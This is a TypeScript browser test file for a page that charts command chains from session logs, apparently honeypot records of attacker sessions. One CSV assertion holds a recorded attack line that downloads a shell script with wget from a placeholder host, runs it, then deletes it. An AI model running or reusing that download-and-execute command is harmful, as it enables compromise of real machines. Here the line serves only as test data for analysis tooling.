/** The page of chains in a real browser: what can be seen and done. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Page } from "playwright-core";
import { main as chains } from "../../scripts/command-chains.ts";
import { type Browser, chooseInMenu, CHROMIUM, fitsWindow, openBrowser, visit } from "../support/browser.ts";
import { joinFleet } from "../support/copy-fleet.ts";

const NAME = "chains in Chromium";

describe.skipIf(CHROMIUM === undefined)(
  CHROMIUM === undefined ? `${NAME} (skipped: no Chromium on PATH)` : NAME,
  () => {
    let browser: Browser;
    let folder: string;
    const urls = new Map<string, string>();

    beforeAll(async () => {
      folder = mkdtempSync(join(tmpdir(), "story-pages-"));
      const page = (name: string) => {
        const path = join(folder, `${name}.html`);
        urls.set(name, pathToFileURL(path).href);
        return path;
      };
      const logs = [await joinFleet(join(folder, "fleet")), "-q"];
      await chains([...logs, "-t", "5", "-o", page("chains")]);
      await chains([...logs, "-t", "5000", "-o", page("chains-none")]);
      browser = await openBrowser();
    });

    afterAll(async () => {
      await browser[Symbol.asyncDispose]();
      rmSync(folder, { recursive: true, force: true });
    });

    /** Open a page; `use` must leave no fault behind. */
    const withPage = (name: string, use: (page: Page) => Promise<void>, width = 1400) =>
      visit(browser, urls.get(name)!, { width }, use);

    // What every page must be, of these logs and of others, pages.test.ts asks.
    test.each([1400, 390])("a page without a command says so at %d px", async width => {
      await withPage(
        "chains-none",
        async page => {
          expect(await page.locator("#chains .caution").innerText()).toContain("a lower threshold");
          expect(await fitsWindow(page)).toBe(true);
        },
        width,
      );
    });

    test("its menu saves the picture, and the chains with each command in full", async () => {
      await withPage("chains", async page => {
        const save = async (item: string) => {
          const [file] = await Promise.all([page.waitForEvent("download"), chooseInMenu(page, "#chains", item)]);
          return [file.suggestedFilename(), await Bun.file((await file.path())!).text()] as const;
        };
        const [picture, svg] = await save("[data-save=svg]");
        expect([picture, svg.slice(0, 4)]).toEqual(["chains.svg", "<svg"]);
        const [name, csv] = await save("[data-table=csv]");
        const lines = csv.trimEnd().split(/\r?\n/);
        expect([name, lines[0], lines.length]).toEqual(["chains.csv", "rank,sessions,share,commands", 26]);
        expect(lines[2]).toEndWith('"grep PRETTY /etc/os-release → cd /tmp && wget -q http://<host>/kestrel.sh -O .k && sh .k; rm -f .k"');
      });
    });

    test("on a phone it is said that the picture goes on sideways; on a wide screen there is nothing to say", async () => {
      for (const [width, isTold] of [[390, true], [1440, false]] as const) {
        await withPage(
          "chains",
          async page => {
            expect(await page.locator("#chains .sideways").isVisible()).toBe(isTold);
            const overflows = "(node => node.scrollWidth > node.clientWidth)(document.querySelector('.picture'))";
            expect(await page.evaluate<boolean>(overflows)).toBe(isTold);
          },
          width,
        );
      }
    });

    test("no two labels of a column overlap, and none leaves its column", async () => {
      await withPage("chains", async page => {
        const faults = await page.evaluate(`(() => {
        const boxes = [...document.querySelectorAll(".step")].map(step => ({
          column: step.dataset.step,
          text: step.querySelector(".name").textContent,
          box: step.querySelector(".name").getBBox(),
          node: step.querySelector(".node").getBBox(),
        }));
        const wide = boxes.filter(({ box, node }) => box.x + box.width > node.x + 166).map(({ text }) => "wide: " + text);
        const over = boxes.flatMap((a, i) => boxes.slice(0, i)
          .filter(b => a.column === b.column && a.box.y + 2 < b.box.y + b.box.height && b.box.y + 2 < a.box.y + a.box.height)
          .map(b => a.text + " over " + b.text));
        return [...wide, ...over];
      })()`);
        expect(faults).toEqual([]);
      });
    });

    test("pointing at a command lights the ways of its sessions, and only these; a click keeps them", async () => {
      await withPage("chains", async page => {
        const hot = () => page.locator(".step.hot .name").allTextContents();
        const step = page.locator(".step", { hasText: "enable" }).first();
        await step.locator(".node").hover();
        const lit = await hot();
        expect(lit).toEqual(expect.arrayContaining(["enable", "system", "shell", "sh"]));
        expect(lit).not.toContain("uname -a");
        expect(await page.locator("#tip b").textContent()).toMatch(/^1st command, 98 sessions, 10\.0 %/);
        await step.locator(".node").click();
        await page.mouse.move(5, 5);
        expect(await hot()).toEqual(lit);
        expect(await step.getAttribute("aria-pressed")).toBe("true");
        await page.keyboard.press("Escape");
        expect(await hot()).toEqual([]);
      });
    });

    test("the lit bands carry what the paths say: all that comes into the node, in and out", async () => {
      await withPage("chains", async page => {
        const faults = await page.evaluate(`(() => {
        const { links, paths } = JSON.parse(document.querySelector("#data").textContent);
        const bands = [...document.querySelectorAll(".band")].map(band => Number(band.dataset.sessions));
        return links.flatMap(([source, target], i) => {
          const sum = paths.reduce((n, [sessions, ...way]) =>
            n + (way.some((at, j) => at === target && way[j - 1] === source) ? sessions : 0), 0);
          return sum === bands[i] ? [] : [source + ">" + target + ": " + sum + " of " + bands[i]];
        });
      })()`);
        expect(faults).toEqual([]);
      });
    });

    test("the picture is one stop of the tab key, arrows move in it", async () => {
      await withPage("chains", async page => {
        expect(await page.locator(".step[tabindex='0']").count()).toBe(1);
        await page.locator(".step[tabindex='0']").focus();
        const place = () =>
          page.evaluate("document.activeElement.dataset.step + ' ' + document.activeElement.dataset.node");
        await page.keyboard.press("ArrowRight");
        expect(String(await place())).toStartWith("1 ");
        expect(await page.locator("#tip").isVisible()).toBe(true);
        await page.keyboard.press("ArrowLeft");
        const back = await place();
        expect(String(back)).toStartWith("0 ");
        await page.keyboard.press("ArrowDown");
        expect(await place()).not.toBe(back);
        await page.keyboard.press("Enter");
        expect(await page.locator(".step.pinned").count()).toBe(1);
        await page.keyboard.press("Escape");
        expect(await page.locator(".step.pinned").count()).toBe(0);
      });
    });

    test("without its script the page says the same", async () => {
      const page = await browser.context.newPage();
      const client = await browser.context.newCDPSession(page);
      await client.send("Emulation.setScriptExecutionDisabled", { value: true });
      await page.goto(urls.get("chains")!);
      expect(await page.locator(".step title").count()).toBe(await page.locator(".step").count());
      expect(await page.locator("#top tbody tr").count()).toBe(25);
      expect(await page.locator(".script").filter({ visible: true }).count()).toBe(0);
      await page.close();
    });
  },
);
